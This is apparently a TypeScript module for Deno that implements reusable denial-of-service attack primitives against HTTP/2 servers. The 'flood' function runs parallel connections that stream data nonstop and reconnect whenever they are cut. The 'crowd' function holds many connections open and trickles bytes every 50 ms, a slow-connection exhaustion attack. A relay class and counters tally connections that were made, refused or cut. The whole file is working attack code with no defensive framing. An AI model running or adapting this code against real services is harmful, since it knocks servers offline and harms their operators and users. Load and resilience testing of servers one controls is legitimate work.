/**
 * How attacks are carried on: in lanes that come again whenever they are cut.
 * @module
 */
import net from "node:net";
import { dialFrom, grpcMessage, RawHttp2, type Target } from "./http2.ts";

/** An attack goes on until `end`; whatever it opened is closed by then. */
export type Attack = (target: Target, end: AbortSignal) => Promise<void>;

/** What came of it: how many connections there were, refused or ended by the other side. */
export const seen = { connections: 0, refused: 0, cut: 0, bytes: 0 };

/** Connections that flood at the same time. */
const LANES = 4;

/** Sends `first`, then one chunk after another; comes again whenever it is cut. */
export function flood(first: Uint8Array, more: (round: number) => Buffer, reads = true): Attack {
  return (target, end) =>
    inLanes(LANES, end, async () => {
      const connection = await connect(target);
      if (!connection) return;
      if (!reads) connection.stopReading();
      end.addEventListener("abort", () => connection.close());
      await connection.write(first);
      for (let round = 0; connection.isOpen && !end.aborted; round++) {
        const chunk = more(round);
        seen.bytes += chunk.length;
        await connection.write(chunk);
        // Whatever comes is read now and then, as an event.
        if (round % 8 === 7) await tick();
      }
      if (!end.aborted) seen.cut++;
      connection.close();
    });
}

/** Opens this many connections that say something, and then next to nothing; again when they are cut. */
export function crowd(
  count: number,
  say: (at: number) => Uint8Array,
  dribble?: Uint8Array,
): Attack {
  return (target, end) =>
    inLanes(count, end, async (lane) => {
      const connection = await connect(target);
      if (!connection) return;
      await connection.write(say(lane));
      const timer = dribble && setInterval(() => connection.write(dribble), 50);
      await Promise.race([connection.ended, ended(end)]);
      clearInterval(timer);
      if (!end.aborted) seen.cut++;
      connection.close();
    });
}

export async function inLanes(
  count: number,
  end: AbortSignal,
  once: (lane: number) => Promise<void>,
): Promise<void> {
  await Promise.all(Array.from({ length: count }, async (_, lane) => {
    while (!end.aborted) {
      await once(lane);
      // Between two tries of one lane; with all lanes that is still many a second.
      if (!end.aborted) await pause(20);
    }
  }));
}

export async function connect(target: Target): Promise<RawHttp2 | undefined> {
  seen.connections++;
  try {
    return await RawHttp2.connect(target);
  } catch {
    seen.refused++;
  }
}

const tick = () => pause(0);
const pause = (ms: number) => new Promise<void>((resolve) => setTimeout(resolve, ms));

export function ended(signal: AbortSignal): Promise<void> {
  return new Promise((resolve) => {
    if (signal.aborted) resolve();
    signal.addEventListener("abort", () => resolve(), { once: true });
  });
}

/** Gives what cannot choose its address one. */
export class Relay implements AsyncDisposable {
  readonly body = Deno.makeTempFileSync();
  readonly #sockets = new Set<net.Socket>();
  readonly #server: net.Server;

  private constructor(target: Target) {
    Deno.writeFileSync(this.body, grpcMessage(new Uint8Array()));
    this.#server = net.createServer(async (inner) => {
      this.#hold(inner);
      try {
        seen.connections++;
        const outer = this.#hold(await dialFrom(target));
        inner.pipe(outer).pipe(inner);
        outer.on("close", () => inner.destroy());
        inner.on("close", () => outer.destroy());
      } catch {
        seen.refused++;
        inner.destroy();
      }
    });
  }

  static async start(target: Target): Promise<Relay> {
    const relay = new Relay(target);
    await new Promise<void>((resolve) => relay.#server.listen(0, "127.0.0.1", resolve));
    return relay;
  }

  get port(): number {
    return (this.#server.address() as net.AddressInfo).port;
  }

  async [Symbol.asyncDispose](): Promise<void> {
    for (const socket of this.#sockets) socket.destroy();
    await new Promise<void>((resolve) => this.#server.close(() => resolve()));
    Deno.removeSync(this.body);
  }

  #hold(socket: net.Socket): net.Socket {
    this.#sockets.add(socket);
    socket.on("error", () => {});
    socket.on("close", () => this.#sockets.delete(socket));
    return socket;
  }
}
